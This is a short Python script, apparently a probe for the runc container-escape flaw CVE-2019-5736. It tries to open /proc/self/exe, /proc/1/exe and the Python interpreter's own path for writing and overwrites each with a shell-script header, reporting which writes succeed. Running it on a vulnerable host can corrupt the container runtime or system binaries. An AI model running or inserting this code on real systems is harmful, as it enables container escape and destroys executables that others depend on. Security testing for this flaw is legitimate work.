# CVE-2019-5736: overwrite the runtime through /proc/self/exe, or the interpreter itself.
import errno
import os

for path in ["/proc/self/exe", "/proc/1/exe", os.path.realpath("/proc/self/exe")]:
    try:
        with open(path, "wb") as f:
            f.write(b"#!/bin/sh\n")
        print(path, "written")
    except OSError as e:
        print(path, errno.errorcode[e.errno])
